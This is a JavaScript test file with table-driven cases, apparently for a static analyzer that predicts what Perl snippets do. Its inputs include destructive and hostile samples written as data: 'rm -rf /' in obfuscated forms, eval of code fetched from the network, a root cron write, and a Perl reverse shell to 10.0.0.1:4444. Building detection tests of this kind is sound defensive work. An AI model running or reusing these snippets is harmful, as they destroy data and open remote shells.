import { table } from "../testing/table.js";

table("perl", "starting programs", [
  { why: "one text goes to the shell", code: "system('rm -rf /')", does: ["shell rm -rf /"] },
  { why: "a list is a program and its arguments", code: "exec('rm','-rf','/')", does: ["exec rm|-rf|/"] },
  { why: "an indirect object is the program", code: "system { 'rm' } 'ls', '-rf', '/'", does: ["exec rm|-rf|/"] },
  { why: "backquotes", code: "my $x = `id`;", does: ["shell id"] },
  { why: "qx with any delimiter", code: "qx{id}; qx'ls'", does: ["shell id", "shell ls"] },
  { why: "qq", code: "system(qq{rm -rf /})", does: ["shell rm -rf /"] },
  { why: "brackets nest inside a quote", code: "system(q{echo {a,{b,c}} d})", does: ["shell echo {a,{b,c}} d"] },
  { why: "a pipe opened", code: "open(F, 'rm -rf / |')", does: ["shell rm -rf /"] },
  { why: "a pipe opened as a list", code: "open(my $f, '-|', 'rm', '-rf', '/')", does: ["exec rm|-rf|/"] },
  {
    why: "what is printed into a pipe is read by the program",
    code: "open(my $f, '|-', 'sh'); print $f \"id\\n\";",
    does: ["shell sh < id\n"],
  },
  { why: "interpolation", code: "my $c = 'id'; system(\"$c -u\")", does: ["shell id -u"] },
  {
    why: "hashes and arrays interpolated",
    code: "my %h=(a=>'i'); my @l=('d'); system(\"$h{a}$l[0]\")",
    does: ["shell id"],
  },
  { why: "CORE:: names the same function", code: "CORE::system('id')", does: ["shell id"] },
  {
    why: "a sub that is called",
    code: "sub f { my ($a, $b) = @_; return $a . $b } system(f('i', 'd'))",
    does: ["shell id"],
  },
  { why: "shift", code: "sub f { my $c = shift; system $c } f('id');", does: ["shell id"] },
]);

table("perl", "hidden text", [
  { why: "pack H*", code: "system(pack('H*','726d202d7266202f'))", does: ["shell rm -rf /"] },
  { why: "base64", code: "use MIME::Base64; system decode_base64('aWQ=')", does: ["shell id"] },
  { why: "chr", code: "system(chr(105).chr(100))", does: ["shell id"] },
  { why: "map chr", code: "system(join '', map { chr } (105,100))", does: ["shell id"] },
  {
    why: "lines that are read, sorted",
    code: "system((sort <STDIN>)[0]); system('id')",
    does: ["shell UNKNOWN", "shell id"],
  },
  { why: "behind a block", code: "print sort { $a <=> $b } <>; system 'id'", does: ["print UNKNOWN", "shell id"] },
  { why: "of a handle", code: "print reverse <$f>; system 'id'", does: ["print UNKNOWN", "shell id"] },
  {
    why: "a comparison is none",
    code: "print 1 if length $x < 3; my $y = $h{a} < 2; system 'id'",
    does: ['?print "1"', "shell id"],
  },
  { why: "reverse in scalar context", code: "my $c = reverse 'di'; system $c", does: ["shell id"] },
  { why: "scalar reverse", code: "system(scalar reverse 'di')", does: ["shell id"] },
  { why: "tr", code: "(my $c = 'ab') =~ tr/ab/id/; system $c", does: ["shell id"] },
  { why: "s///", code: "my $c = 'iXd'; $c =~ s/X//; system $c", does: ["shell id"] },
  { why: "escapes", code: 'system("\\x69\\x{64}")', does: ["shell id"] },
  { why: "sprintf %c", code: "system(sprintf('%c%c',105,100))", does: ["shell id"] },
  { why: "repetition and concatenation", code: "system('i' . 'd' x 1)", does: ["shell id"] },
]);

table("perl", "code made of data", [
  { why: "eval of known text", code: "eval('system(\"id\")')", does: ['evaluate perl system("id")', "shell id"] },
  { why: "eval of a block is the block", code: "eval { system('id') };", does: ["shell id"] },
  {
    why: "a request by its method",
    code: "use HTTP::Tiny; HTTP::Tiny->new->request('DELETE', 'https://e.example/v1/x');",
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a request made beforehand",
    code: "my $r = HTTP::Request->new(DELETE => 'https://e.example/v1/x'); LWP::UserAgent->new->request($r);",
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "one that only asks, with headers",
    code: "HTTP::Tiny->new->request('GET', 'https://e.example/v1/x', { headers => { a => 'b' } });",
    does: ["receive e.example"],
  },
  {
    why: "eval of the network",
    code: "use LWP::Simple; eval get('http://e.example/x');",
    does: ["receive e.example", "evaluate perl UNKNOWN", "opaque untrusted_code"],
  },
  { why: "eval of standard input", code: "eval <STDIN>", does: ["evaluate perl UNKNOWN", "opaque unknown_code"] },
  { why: "do FILE", code: "do './x.pl';", does: ["evaluate perl ./x.pl"] },
  { why: "s///e runs its replacement", code: "$_ = 'a'; s/a/system('id')/e;", does: ["?shell id"] },
]);

table("perl", "files and the network", [
  { why: "unlink of what a pattern matches", code: "unlink glob('/etc/*');", does: ["list /etc/", "delete /etc/*"] },
  { why: "each of a pattern", code: "unlink $_ for <*.o>;", does: ["list .", "?delete *.o"] },
  { why: "rmtree", code: "use File::Path; rmtree('/home/user');", does: ["delete /home/user recursive"] },
  {
    why: "writing tells the content",
    code: "open(my $f, '>', '/etc/cron.d/x'); print $f \"* * * * * root id\\n\";",
    does: ["write /etc/cron.d/x = * * * * * root id\n"],
  },
  {
    why: "a bareword handle",
    code: "open(F, '>>/etc/hosts'); print F 'x'; close(F);",
    does: ["write /etc/hosts append = x"],
  },
  {
    why: "a shell wired to a socket",
    code: "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in(4444,inet_aton('10.0.0.1')))){open(STDIN,'>&S');exec('/bin/sh -i');}",
    does: ["connect 10.0.0.1:4444", "?shell /bin/sh -i < UNKNOWN untrusted"],
  },
  {
    why: "IO::Socket",
    code: "use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1:4444');",
    does: ["connect 10.0.0.1:4444"],
  },
]);

table("perl", "look-alikes that do nothing", [
  { why: "a comment and a text", code: "# system('rm -rf /')\nmy $x = \"system('rm -rf /')\";", does: [] },
  { why: "documentation", code: "=pod\n\nsystem('rm -rf /')\n\n=cut\nmy $x = 1;", does: [] },
  { why: "a hash key", code: "my %h = (system => 1); $h{exec} = 2;", does: [] },
  { why: "printing", code: 'print "rm -rf /\\n";', does: ['print "rm -rf /\\n"'] },
  {
    why: "lines filtered",
    code: 'while (<STDIN>) { chomp; my @f = split /\\t/; print $f[1], "\\n" if $f[0] =~ /^a.*b$/; }',
    does: ["?print UNKNOWN"],
  },
  { why: "-n: once per line", code: "print if /x/", input: { eachLine: "silent" }, does: ["?print UNKNOWN"] },
  {
    why: "-p: lines are printed",
    code: "s/a/b/",
    input: { eachLine: "print", stdin: "a1\na2\n" },
    does: ['print "b1\\nb2\\n"'],
  },
  {
    why: "sums and formats",
    code: "my %h = (a=>1, b=>2); my $t = 0; $t += $h{$_} for keys %h; printf \"%s %d\\n\", 'total', 3;",
    does: ['print "total 3\\n"'],
  },
]);
